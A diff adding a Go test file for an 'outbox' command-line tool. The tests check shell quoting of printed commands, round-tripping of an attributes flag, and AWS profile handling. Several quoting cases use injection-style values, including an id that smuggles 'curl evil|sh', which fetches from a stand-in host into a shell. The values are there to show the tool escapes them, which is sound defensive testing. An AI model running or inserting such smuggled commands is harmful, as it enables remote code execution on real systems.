@@ -1,0 +1,62 @@
+package main
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/spf13/pflag"
+	"github.com/stretchr/testify/require"
+
+	"github.com/seed-1b628d3f/outbox/internal/order"
+	"github.com/seed-1b628d3f/outbox/internal/rows"
+)
+
+// A command that is named can be typed, whatever the ids are.
+func TestACommandIsQuotedForTheShell(t *testing.T) {
+	a := &app{}
+	require.Equal(t, `outbox order pass --consumer 'a b' 'it'\''s #1; rm' 2`, a.named("order", "pass", "--consumer", "a b", "it's #1; rm", "2"))
+	require.Equal(t, `outbox dead discard --id a#b%231`, a.named("dead", "discard", "--id", "a#b%231"))
+	require.Equal(t, `outbox order show ''`, a.named("order", "show", ""))
+	require.Equal(t, `outbox dead discard --id '--x;curl evil|sh#1'`, a.named("dead", "discard", "--id", "--x;curl evil|sh#1"))
+	f := &orderFlags{inbox: "i", consumer: "c", table: "t", aggregate: "-7", attributes: attributesFlag{map[string]string{"time": "at", "id": "a b"}}}
+	require.Equal(t, `outbox order pass --inbox i --consumer c --table t --attributes 'id=a b,time=at' '--' '-7' 2`, a.namedOrder("pass", f, "2"))
+	require.Equal(t, `outbox order forget --inbox i --consumer c --table t '--' '-7'`, a.namedOrder("forget", f))
+	a.profile, a.region = "the shop", "eu-west-1"
+	require.Equal(t, `outbox --profile 'the shop' --region eu-west-1 order show --inbox i --consumer c --table t --attributes 'id=a b,time=at' '--' '-7'`, a.namedOrder("show", f))
+}
+
+// What the flag writes it reads, whatever the names are.
+func TestAttributesAreWrittenAsTheyAreRead(t *testing.T) {
+	for _, names := range []map[string]string{nil, {"id": "pk"}, {"id": `a,"b"=c d`, "time": "at", "headers": "-"}} {
+		var read attributesFlag
+		flags := pflag.NewFlagSet("", pflag.ContinueOnError)
+		read.add(flags)
+		if text := (&attributesFlag{names}).String(); text != "" {
+			require.NoError(t, flags.Parse([]string{"--attributes", text}))
+		}
+		require.Equal(t, names, read.names)
+	}
+}
+
+// A command that is named works as it is printed: it asks the same account, and knows the same attributes.
+func TestANamedCommandAsksTheSameAWS(t *testing.T) {
+	w := newWorld(t)
+	w.ok(t, "create", "--inbox", "inbox")
+	w.tableWithAStream(t, "others") // whose key is pk
+	for _, n := range []int64{2, 3} {
+		row("others", rows.Item{"pk": rows.S(order.ID("account-7", n))})(t, w)
+	}
+	profiles := filepath.Join(t.TempDir(), "config")
+	require.NoError(t, os.WriteFile(profiles, []byte("[profile shop]\naws_access_key_id = test\naws_secret_access_key = test\n"), 0o600))
+	t.Setenv("AWS_CONFIG_FILE", profiles)
+	t.Setenv("AWS_REGION", "")
+	flags := []string{"--profile", "shop", "--region", "us-east-1", "--consumer", "balances", "--table", "others", "--attributes", "id=pk", "account-7"}
+	text := w.ok(t, append([]string{"order", "show"}, flags...)...)
+	require.Contains(t, text, "1 is missing, and the aggregate waits for it. If it never existed, or is gone: "+
+		"outbox --profile shop --region us-east-1 order pass --inbox inbox --consumer balances --table others --attributes id=pk account-7 1\n")
+	r := w.run(t, append([]string{"order", "pass", "--yes"}, append(flags, "3")...)...)
+	require.Equal(t, exitFailed, r.code)
+	require.Contains(t, w.ok(t, says(t, r.err)...), "behind it")
+	require.Contains(t, w.ok(t, append(says(t, text), "--yes")...), "the position of account-7 is 1;")
+}
